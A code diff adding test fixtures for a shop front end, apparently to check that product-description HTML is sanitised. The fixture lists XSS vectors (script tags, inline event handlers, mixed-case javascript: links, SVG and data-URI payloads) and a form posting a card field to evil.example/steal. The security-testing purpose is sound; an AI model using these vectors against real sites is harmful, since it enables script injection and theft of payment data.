@@ -65,3 +65,28 @@ export const longLabelHandlers = () =>
       product(i + 1, { vendor: `The Extraordinarily Long And Descriptive Outdoor Apparel Manufacturing Company Number ${i + 1} Limited`, title: `An exceptionally long product title that keeps going to test wrapping in every layout ${i + 1}` }),
     ),
   );
+
+/**
+ * Shop HTML that tries every way in: a script, inline handlers, `javascript:` links and frames,
+ * a form, a style attribute. Allowed markup (paragraphs, strong, lists, an https link) is mixed in.
+ */
+export const hostileShopHtml = [
+  '<p>Soft <strong>organic</strong> cotton. <a href="https://luma.example/care" target="_blank">Care guide</a></p>',
+  '<ul><li>Machine wash</li><li>Tumble dry low</li></ul>',
+  '<script>window.__pwned=1</script>',
+  '<img src="x" alt="Broken image" onerror="window.__pwned=1">',
+  '<a href="javascript:window.__pwned=1">Script link</a>',
+  '<a href="  JaVaScRiPt:window.__pwned=1">Mixed-case script link</a>',
+  '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>',
+  '<iframe title="frame" src="javascript:window.__pwned=1"></iframe>',
+  '<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>',
+  '<p style="background:url(javascript:window.__pwned=1)" onclick="window.__pwned=1">Styled paragraph</p>',
+  '<img src="data:image/svg+xml,%3Csvg onload=%22window.__pwned=1%22/%3E" alt="Data image">',
+].join('\n');
+
+/** One product whose description is {@link hostileShopHtml}; one with no image at all. */
+export const shopHtmlHandlers = () =>
+  engineHandlersFor([
+    product(1, { title: 'Hostile description', handle: 'hostile-description', bodyHtml: hostileShopHtml }),
+    product(2, { title: 'Plain Tee without a photo', handle: 'plain-tee', bodyHtml: '<p>No photo was uploaded for this tee.</p>' }),
+  ]);
